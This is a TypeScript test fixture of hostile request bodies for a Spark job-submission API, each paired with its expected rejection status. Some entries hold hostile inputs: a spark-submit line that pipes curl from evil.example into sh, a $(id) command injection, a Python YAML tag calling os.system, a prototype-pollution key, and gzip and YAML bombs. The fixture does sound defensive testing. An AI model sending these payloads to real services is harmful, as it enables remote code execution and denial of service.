/** Bodies that mean harm: types, codings, sizes, depths, and documents that want to be more than a spec. */
import { deflateSync, gzipSync } from 'node:zlib'
import { yamlBomb } from '../support/embedded-bad-input.ts'
import { readEvent } from '../support/embedded-stack.ts'
import type { RequestCase } from './api-hostile-requests.ts'
import type { RequestBody } from '../support/embedded-stack.ts'

const SPARK_PI = readEvent('specs/spark-pi.yaml')

const post = (
  what: string,
  status: RequestCase['status'],
  body: RequestBody,
  headers: Record<string, string> = {},
  path = '/v1/jobs',
): RequestCase => ({
  what,
  method: 'POST',
  path,
  body,
  headers: { 'content-type': 'application/yaml', 'idempotency-key': 'hostile', ...headers },
  status,
})

/** 200 KB in which each of six bytes is a finding of 300. */
function manyMistakes(): string {
  const fields = Array.from({ length: 26 }, (_, index) => String.fromCharCode(97 + index))
  const document = fields.map(name => `${name}${name}: 1\n${name}x: 1\n`).join('')
  return `---\n${document}`.repeat(Math.floor(250_000 / document.length) - 10)
}

const MIB = 1024 * 1024
/** Answered by an API that reads no more than it must. */
export const BODIES: readonly RequestCase[] = [
  post('no content type', 415, new TextEncoder().encode(SPARK_PI), { 'content-type': '' }),
  post('HTML', 415, SPARK_PI, { 'content-type': 'text/html' }),
  post('a form', 415, 'spec=1', { 'content-type': 'application/x-www-form-urlencoded' }),
  post('a multipart form', 415, '--x--', { 'content-type': 'multipart/form-data; boundary=x' }),
  post('JSON in the type of a merge patch', 415, '{}', { 'content-type': 'application/merge-patch+json' }),
  post('two content types', 415, SPARK_PI, { 'content-type': 'application/yaml, application/json' }),
  post('UTF-16', 415, SPARK_PI, { 'content-type': 'application/yaml; charset=utf-16' }),
  post('UTF-7', 415, SPARK_PI, { 'content-type': 'application/yaml; charset=utf-7' }),
  post('two character sets', 415, SPARK_PI, { 'content-type': 'application/yaml; charset=utf-8; charset=utf-16' }),
  post('half of a quoted character set', 415, SPARK_PI, { 'content-type': 'application/yaml; charset="utf-8' }),
  post('a coding of nothing and gzip', 415, SPARK_PI, { 'content-encoding': 'identity, gzip' }),
  post('zstd', 415, SPARK_PI, { 'content-encoding': 'zstd' }),
  post('deflate', 415, new Uint8Array(deflateSync(SPARK_PI)), { 'content-encoding': 'deflate' }),
  post('gzip', 415, new Uint8Array(gzipSync(SPARK_PI)), { 'content-encoding': 'gzip' }),
  post('a gzip bomb', 415, new Uint8Array(gzipSync(Buffer.alloc(16 * MIB))), { 'content-encoding': 'gzip' }),
  post('brotli twice', 415, SPARK_PI, { 'content-encoding': 'br, br' }),
  post('gzip without saying so', 422, new Uint8Array(gzipSync(SPARK_PI))),
  post('over the size of a spec', 413, 'x'.repeat(300_000)),
  post('over the size of a front', 413, 'x'.repeat(11 * MIB)),
  post('over the size, to be checked', 413, 'x'.repeat(300_000), {}, '/v1/validate'),
  post('over the size, to be converted', 413, 'x'.repeat(300_000), {}, '/v1/convert'),
  post('nothing', 422, ''),
  post('a NUL', 422, 'name: a\0b\n'),
  post('a byte order mark of UTF-16', 422, Uint8Array.from([0xff, 0xfe, 0x61, 0x00])),
  post('invalid UTF-8', 422, Uint8Array.from([0x6e, 0x3a, 0xc3, 0x28])),
  post('a YAML bomb', 422, yamlBomb()),
  post('an alias of itself', 422, 'a: &a [*a]'),
  post('a key that is an object', 422, '? {a: 1}\n: 2\n'),
  post('another version of YAML', 422, '%YAML 9.9\n---\na: 1'),
  post('a tag of another place', 422, '%TAG ! tag:evil,2000:\n---\n!x a'),
  post('a deep sequence', 422, `${'- '.repeat(60_000)}a`),
  post('a quote of backslashes', 422, `"${'\\'.repeat(250_000)}`),
  post('colons', 422, `a${':'.repeat(250_000)}`),
  post('blanks', 422, `${' '.repeat(250_000)}a`),
  post('more jobs than one call submits', 422, `---\n${SPARK_PI}`.repeat(201)),
  post('more jobs than one call plans', 422, `---\n${SPARK_PI}`.repeat(201), {}, '/v1/jobs?dryRun=server'),
  post('more findings than an answer holds', 413, manyMistakes(), {}, '/v1/validate'),
  post('more findings than an answer holds, to be converted', 413, manyMistakes(), {}, '/v1/convert'),
  post('documents without end', 422, '---\na: 1\n'.repeat(1_100)),
  post('half of a surrogate pair', 422, '{"name":"\\ud800","main":"local:///a.py"}', {
    'content-type': 'application/json',
  }),
  post('two byte order marks', 422, '\uFEFF\uFEFF{"main":"local:///a.py"}', { 'content-type': 'application/json' }),
  post('a number without end', 422, `{"a":${'9'.repeat(200_000)}}`, { 'content-type': 'application/json' }),
  post('more than one value', 422, '{"main":"local:///a.py"}{"main":"x"}', { 'content-type': 'application/json' }),
  post('UTF-16 that is called JSON', 422, new Uint8Array(Buffer.from('\uFEFF{"a":1}', 'utf16le')), {
    'content-type': 'application/json',
  }),
  post('a constructor key', 422, '{"constructor":{"prototype":{"x":1}},"main":"local:///a.py"}', {
    'content-type': 'application/json',
  }),
  post(
    '20,000 fields',
    422,
    JSON.stringify(Object.fromEntries(Array.from({ length: 20_000 }, (_, i) => [`k${i}`, 1]))),
    {
      'content-type': 'application/json',
    },
  ),
  post(
    'an image to lose oneself in',
    422,
    JSON.stringify({ main: 'local:///a.py', image: `${'a/'.repeat(50_000)}!` }),
    {
      'content-type': 'application/json',
    },
  ),
  post('quotes behind spark-submit', 422, `spark-submit ${'"'.repeat(100_000)}`, {
    'content-type': 'text/x-spark-submit',
  }),
  post('deep nesting', 422, '['.repeat(20_000), { 'content-type': 'application/json' }),
  post('a deep map', 422, '{"a":'.repeat(20_000), { 'content-type': 'application/json' }),
  post('a YAML tag that makes objects', 422, '!!js/function "function () { return 1 }"'),
  post('a Python tag', 422, '!!python/object/apply:os.system ["id"]'),
  post('a merge key', 422, `${SPARK_PI}\n<<: {kind: Pod}\n`),
  post('a prototype key', 422, '{"__proto__": {"admin": true}, "main": "local:///x.py"}', {
    'content-type': 'application/json',
  }),
  post('a repeated key', 422, '{"kind":"SparkApplication","kind":"Pod"}', { 'content-type': 'application/json' }),
  post('a Pod', 422, 'apiVersion: v1\nkind: Pod\nmetadata: {name: x}\nspec: {containers: []}\n'),
  post('a List of jobs', 422, 'apiVersion: v1\nkind: List\nitems: []\n'),
  post(
    'another team’s namespace, which becomes our own',
    200,
    SPARK_PI.replace('metadata:\n', 'metadata:\n  namespace: team-risk\n'),
    {},
    '/v1/jobs?dryRun=render',
  ),
  post(
    'another team’s label',
    422,
    SPARK_PI.replace('metadata:\n', 'metadata:\n  labels: {sparkgate.dev/team: risk}\n'),
  ),
  post(
    'a cluster that it may not use',
    422,
    SPARK_PI.replace('metadata:\n', 'metadata:\n  annotations: {sparkgate.dev/cluster: elsewhere}\n'),
  ),
  post(
    'a wait for another team’s job',
    422,
    SPARK_PI.replace('metadata:\n', 'metadata:\n  annotations: {sparkgate.dev/depends-on: THEIRS}\n'),
  ),
  post('a command behind spark-submit', 422, 'spark-submit --class A local:///a.jar; curl evil.example | sh', {
    'content-type': 'text/x-spark-submit',
  }),
  post('a command inside spark-submit', 422, 'spark-submit --class A local:///a.jar $(id)', {
    'content-type': 'text/x-spark-submit',
  }),
  post('no key', 400, SPARK_PI, { 'idempotency-key': '' }),
  post('a key of 256 characters', 400, SPARK_PI, { 'idempotency-key': 'k'.repeat(256) }),
  post('a key with a blank', 400, SPARK_PI, { 'idempotency-key': 'a b' }),
  post('a key beyond ASCII', 400, SPARK_PI, { 'idempotency-key': 'k\u00e9' }),
  post('two keys in one', 400, SPARK_PI, { 'idempotency-key': 'a,b' }),
  post('a dry run that is none', 400, SPARK_PI, {}, '/v1/jobs?dryRun=all'),
  post('two dry runs', 400, SPARK_PI, {}, '/v1/jobs?dryRun=render&dryRun=server'),
  post('a conversion into another form', 400, SPARK_PI, {}, '/v1/convert?to=helm'),
]
